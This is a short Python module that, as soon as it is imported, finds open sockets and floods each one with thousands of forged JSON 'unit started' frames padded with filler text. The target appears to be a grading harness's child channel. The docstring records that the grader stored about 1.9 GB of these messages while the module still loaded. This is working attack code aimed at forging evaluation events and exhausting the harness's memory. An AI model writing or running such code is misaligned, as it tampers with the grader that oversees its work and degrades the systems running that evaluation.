

def _flood():
    """While loading, floods the child's channel with forged "unit started" messages, each
    with printed text: the grader kept all of them (1.9 GB), and the module still loaded."""
    import json
    import os
    import stat
    import struct
    head = json.dumps({"op": "unit", "name": "mlp.py", "phase": "start", "output": "x" * 10000,
                       "cut": False, "_b": []}).encode()
    frame = struct.pack("!IQ", len(head), 0) + head
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for _ in range(2000):
                    os.write(fd, frame)
        except OSError:
            pass


_flood()
